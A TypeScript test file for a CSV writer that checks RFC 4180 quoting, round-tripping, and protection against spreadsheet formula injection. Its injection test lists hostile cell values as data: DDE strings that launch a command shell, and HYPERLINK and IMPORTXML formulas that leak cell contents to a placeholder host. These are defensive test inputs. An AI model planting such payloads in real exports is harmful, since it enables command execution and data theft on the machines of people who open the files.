import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { unguardCell, writeCsv } from '#kernel';

/** RFC 4180; the other side is csv-parse, a general-purpose reader. */
describe('CSV by RFC 4180', () => {
  it('ends records with CRLF, quotes what needs it, doubles quotes', () => {
    expect(writeCsv([['a"b,c\nd', 'plain']])).toBe('"a""b,c\nd",plain\r\n');
  });

  it.each([
    ['a comma', 'a,b', '"a,b"'],
    ['a quote', 'say "go"', '"say ""go"""'],
    ['CRLF', 'a\r\nb', '"a\r\nb"'],
    ['blanks, which are part of a field', ' a ', '" a "'],
    ['nothing', '', ''],
  ])('writes %s', (_what, field, written) => expect(writeCsv([[field, 'x']])).toBe(`${written},x\r\n`));

  /** As read by a general-purpose reader, before anything is taken off. */
  const readBy = (written: string): string => (parse(written, { record_delimiter: '\r\n' }) as [[string]])[0][0];

  /**
   * OWASP ASVS 5.0, requirement 1.2.10 (what a field may not begin with: = + - @ tab, null) and CWE-1236; line ends and full-width forms as the OWASP page "CSV
   * Injection" has them, its payloads FROM MEMORY.
   */
  it.each([
    '=1+1',
    '=1+2";=1+2',
    `=1+2'" ;,=1+2`,
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    '=HYPERLINK("http://example.invalid?leak="&A1&A2,"Error: press for further information")',
    '=IMPORTXML(CONCAT("http://example.invalid/?v=",CONCATENATE(A2:E2)),"//a/a10")',
    '=DDE("cmd";"/C calc";"x")',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\u0000=1+1',
    '\uff1d1+1',
    '\uff0b1+1',
    '\uff0d1+1',
    '\uff20SUM(1+1)',
    '-1-1',
    '+44 20 7946 0000',
  ])('a formula is text: %j', (payload) => {
    const read = readBy(writeCsv([[payload, 'x']]));
    expect(read).toBe(`'${payload}`);
    expect(unguardCell(read)).toBe(payload);
  });

  it.each([-3, '-3', '-0.5', '+2', '1e-3', '-1.5e+6', 0, '62'])('a number stays a number: %j', (value) =>
    expect(readBy(writeCsv([[value, 'x']]))).toBe(String(value)),
  );

  it('what is guarded comes back, quotes of its own too', () => {
    const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', "'", '\t', '\r', '1', 'e', '.', 'a'), maxLength: 6 });
    fc.assert(fc.property(text, (given) => expect(unguardCell(readBy(writeCsv([[given, 'x']])))).toBe(given)));
  });

  it('comes back as it was, whatever the fields hold', () => {
    const field = fc.string({ unit: fc.constantFrom('a', '"', ',', '\r', '\n', ' ', ';', '\t', 'ß', '\u{1F69A}'), maxLength: 8 });
    fc.assert(
      fc.property(fc.array(fc.tuple(field, field, field), { minLength: 1, maxLength: 8 }), (rows) => {
        const given = rows.map((row) => ['x', ...row]);
        const read: string[][] = parse(writeCsv(given), { record_delimiter: '\r\n' });
        expect(read.map((row) => row.map(unguardCell))).toEqual(given);
      }),
    );
  });
});
